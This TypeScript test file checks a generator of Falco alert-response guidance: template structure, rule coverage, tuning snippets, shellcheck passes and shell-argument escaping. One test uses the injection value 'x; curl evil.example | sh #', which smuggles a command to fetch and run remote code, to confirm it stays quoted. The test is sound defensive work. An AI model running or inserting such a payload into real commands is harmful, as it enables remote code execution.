import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { basename, dirname, relative } from 'node:path';
import { before, describe, test } from 'node:test';
import {
  currentRules,
  findRule,
  loadCatalog,
  officialLists,
  ruleSlug,
} from '../../src/guidance/catalog.js';
import { createGuidanceLibrary } from '../../src/guidance/guidance.js';
import { alertFromRule, fieldsOf } from '../helpers/alert-from-rule.js';
import {
  allTemplates,
  checkRendered,
  codeOf,
  lintTemplate,
  ruleTemplates,
  templatesDir,
  variants,
  type Rendered,
} from '../helpers/guidance-checks.js';
import { checkShellBlocks, requireShellcheck } from '../helpers/shell-check.js';
import { shellWords } from '../helpers/shell-words.js';

const library = createGuidanceLibrary(templatesDir);

describe('guidance templates', () => {
  test('every template only prints values through helpers', () => {
    const problems = allTemplates.flatMap(lintTemplate);
    assert.deepEqual(problems, []);
  });

  test('every rule template belongs to an official rule, in the folder of its source', () => {
    const bySlug = new Map(loadCatalog().map((r) => [ruleSlug(r.name), r]));
    for (const file of ruleTemplates) {
      const rule = bySlug.get(basename(file, '.hbs'));
      assert.ok(rule, `${relative(templatesDir, file)} matches no rule slug`);
      assert.equal(
        basename(dirname(file)),
        rule.source,
        `${relative(templatesDir, file)} is not under templates/rules/${rule.source}/`,
      );
    }
  });

  test('rule templates are written for their rule: own summary, why, benign causes and triage', () => {
    for (const file of ruleTemplates) {
      const text = readFileSync(file, 'utf8');
      for (const section of [
        '## Summary',
        '## Why it matters',
        '## Common benign causes',
        '## Triage',
        '## Contain',
        '## Fix',
        '## Tune',
      ]) {
        assert.ok(text.includes(section), `${relative(templatesDir, file)} lacks ${section}`);
      }
      // The why and benign sections are the rule's own words, not a partial.
      for (const section of ['## Why it matters', '## Common benign causes']) {
        const body = text.split(section)[1]!.split('\n## ')[0]!;
        assert.ok(
          !/\{\{>/.test(body),
          `${relative(templatesDir, file)}: ${section} must be written for the rule`,
        );
        assert.ok(
          body.replace(/\{\{[^}]*\}\}/g, '').trim().length > 80,
          `${relative(templatesDir, file)}: ${section} is too thin`,
        );
      }
    }
  });
});

describe('coverage', () => {
  test('every one of the 242 official rules, the 4 deprecated ones included, has a template written for it', () => {
    assert.equal(loadCatalog().length, 242);
    assert.equal(loadCatalog().filter((r) => r.deprecated).length, 4);
    const slugs = library.templateSlugs();
    const missing = loadCatalog()
      .filter((r) => !slugs.has(ruleSlug(r.name)))
      .map((r) => `${r.source}/${ruleSlug(r.name)}`);
    assert.deepEqual(missing, [], `${missing.length} rules fall back to generic guidance`);
    for (const r of loadCatalog()) {
      const g = library.forRule(r);
      assert.equal(g.specific, true, `${r.name} renders its own template`);
      // An official rule is never called a custom one.
      assert.doesNotMatch(JSON.stringify(g.doc), /not one of the official Falco rules/, r.name);
    }
  });

  test('tuning snippets are filled with the alert’s own values (exception fields the rule outputs)', () => {
    const placeholders: string[] = [];
    for (const rule of loadCatalog()) {
      const g = library.forAlert(alertFromRule(rule));
      for (const c of codeOf(g))
        if (c.lang === 'falco' && /REPLACE-WITH-|\$\{/.test(c.content))
          placeholders.push(
            `${rule.name}: ${c.content.split('\n').find((l) => /REPLACE|\$\{/.test(l))}`,
          );
    }
    assert.deepEqual(placeholders, []);
  });

  test('every code block in Tune is a Falco snippet, so the claims test evaluates it', () => {
    const other: string[] = [];
    for (const rule of loadCatalog())
      for (const st of library.forRule(rule).doc.sections.find((s) => s.id === 'tune')?.steps ?? [])
        for (const c of st.code) if (c.lang !== 'falco') other.push(`${rule.name}: ${c.lang}`);
    assert.deepEqual(other, []);
  });

  test('tuning only appends to lists the official rules define', () => {
    const lists = officialLists();
    assert.ok(lists.size > 100, 'the catalog carries the official list names');
    const bad: string[] = [];
    for (const file of allTemplates) {
      for (const m of readFileSync(file, 'utf8').matchAll(/list-append list="([^"]+)"/g))
        if (!lists.has(m[1]!)) bad.push(`${relative(templatesDir, file)}: ${m[1]}`);
    }
    assert.deepEqual(bad, []);
  });

  test('no two rules share their why and benign-cause text (a family text with the name swapped is not enough)', () => {
    const shingles = (text: string) => {
      const w = text
        .toLowerCase()
        .replace(/\{\{[^}]*\}\}/g, ' ')
        .split(/[^a-z0-9]+/)
        .filter(Boolean);
      const out = new Set<string>();
      for (let i = 0; i + 3 <= w.length; i++) out.add(w.slice(i, i + 3).join(' '));
      return out;
    };
    const own = ruleTemplates.map((file) => {
      const text = readFileSync(file, 'utf8');
      const part = (title: string) => text.split(title)[1]?.split('\n## ')[0] ?? '';
      return {
        file: relative(templatesDir, file),
        set: shingles(part('## Why it matters') + part('## Common benign causes')),
      };
    });
    const tooClose: string[] = [];
    for (let i = 0; i < own.length; i++) {
      for (let j = i + 1; j < own.length; j++) {
        const a = own[i]!.set;
        const b = own[j]!.set;
        let shared = 0;
        for (const x of a) if (b.has(x)) shared++;
        const similarity = shared / Math.max(1, Math.min(a.size, b.size));
        if (similarity > 0.6)
          tooClose.push(`${own[i]!.file} ~ ${own[j]!.file}: ${(similarity * 100).toFixed(0)}%`);
      }
    }
    assert.deepEqual(tooClose, []);
  });
});

describe('guidance rendered for every official rule', () => {
  const rendered: Rendered[] = [];
  before(() => {
    for (const rule of loadCatalog()) {
      for (const v of variants(rule))
        rendered.push({ label: v.label, guidance: library.forAlert(v.alert), hostile: v.hostile });
      rendered.push({ label: `${rule.name} [no alert]`, guidance: library.forRule(rule) });
    }
  });

  test('renders without leftovers, with parsing YAML and valid Falco snippets, and Slack-safe prose', () => {
    const problems = rendered.flatMap(checkRendered);
    assert.deepEqual(problems.slice(0, 50), [], `${problems.length} problems`);
  });

  test('every shell block passes bash -n and shellcheck', async () => {
    await requireShellcheck();
    const blocks = rendered.flatMap(({ label, guidance }) =>
      codeOf(guidance)
        .filter((c) => c.lang === 'sh')
        .map((c, i) => ({ id: `${label} #${i}`, content: c.content })),
    );
    // Identical blocks are checked once.
    const unique = [...new Map(blocks.map((b) => [b.content, b])).values()];
    const problems = await checkShellBlocks(unique);
    const lines = [...problems.entries()].map(
      ([id, ps]) =>
        `${id}: ${ps.join('; ')}\n${unique.find((b) => b.id === id)?.content.slice(0, 400)}`,
    );
    assert.deepEqual(lines.slice(0, 20), [], `${lines.length} shell blocks with problems`);
  });

  test('a value that would break out of its shell argument stays one argument', () => {
    const rule = findRule('Read sensitive file untrusted') ?? currentRules()[0]!;
    const evil = 'x; curl evil.example | sh #';
    const g = library.forAlert(
      alertFromRule(rule, {
        overrides: Object.fromEntries(rule.outputFields.map((f) => [f, evil])),
      }),
    );
    const sh = codeOf(g).filter((c) => c.lang === 'sh');
    assert.ok(sh.length > 0);
    for (const c of sh) {
      for (const line of c.content.split('\n')) {
        if (line.includes('curl evil')) assert.match(line, /'x; curl evil\.example \| sh #'/);
      }
    }
  });

  test('a value starting with "-" never lands in a command where a tool would read it as an option', () => {
    // Every field of every rule gets a value that is an option (`--kubeconfig=…` style).
    const bad: string[] = [];
    for (const rule of loadCatalog()) {
      const overrides = Object.fromEntries(
        fieldsOf(rule).map((f, i) => [f, `--hostile-${i}=/tmp/x`]),
      );
      const g = library.forAlert(alertFromRule(rule, { overrides }));
      for (const c of codeOf(g).filter((b) => b.lang === 'sh'))
        for (const w of shellWords(c.content))
          if (w.startsWith('--hostile-'))
            bad.push(
              `${rule.name}: ${w} in ${c.content.split('\n').find((l) => l.includes(w.slice(0, 12)))}`,
            );
    }
    assert.deepEqual(
      bad.slice(0, 20),
      [],
      `${bad.length} commands take an alert value as an option`,
    );
  });

  test('no fill-in variable is one a shell, a cloud CLI or kubectl may already have set', () => {
    // "${AWS_REGION:?...}" would silently take CloudShell's region instead of stopping.
    const RESERVED = new Set([
      'USER',
      'HOME',
      'PATH',
      'PWD',
      'OLDPWD',
      'SHELL',
      'HOSTNAME',
      'UID',
      'EUID',
      'PPID',
      'TERM',
      'LANG',
      'TMPDIR',
      'KUBECONFIG',
      'AWS_REGION',
      'AWS_DEFAULT_REGION',
      'AWS_PROFILE',
      'AWS_ACCESS_KEY_ID',
      'AWS_SECRET_ACCESS_KEY',
      'AWS_SESSION_TOKEN',
      'GOOGLE_CLOUD_PROJECT',
      'CLOUDSDK_CORE_PROJECT',
      'GH_TOKEN',
      'GITHUB_TOKEN',
      'GH_REPO',
    ]);
    const used = new Set<string>();
    for (const r of rendered)
      for (const c of codeOf(r.guidance))
        for (const m of c.content.matchAll(/\$\{([A-Z_][A-Z0-9_]*):\?/g)) used.add(m[1]!);
    assert.ok(used.size > 50, `fill-ins seen: ${used.size}`);
    assert.deepEqual(
      [...used].filter((v) => RESERVED.has(v)),
      [],
    );
  });

  test('custom rules get the generic guidance, and say so', () => {
    const g = library.forAlert({
      rule: 'Detect Shell in Container',
      priority: 'Warning',
      time: '2024-10-05T13:40:44.385152581Z',
      output: 'Shell executed in a container',
      output_fields: {
        'container.id': '185304d1bba4',
        'proc.name': 'bash',
        'proc.cmdline': 'bash /docker-entrypoint.sh auto',
        'user.name': 'root',
      },
      source: 'syscall',
      tags: ['container', 'process', 'shell'],
      hostname: 'k8s-master-01',
    });
    assert.equal(g.specific, false);
    assert.match(g.doc.sections[0]!.steps[0]!.text, /generic/);
    assert.deepEqual(checkRendered({ label: 'custom', guidance: g }), []);
  });
});
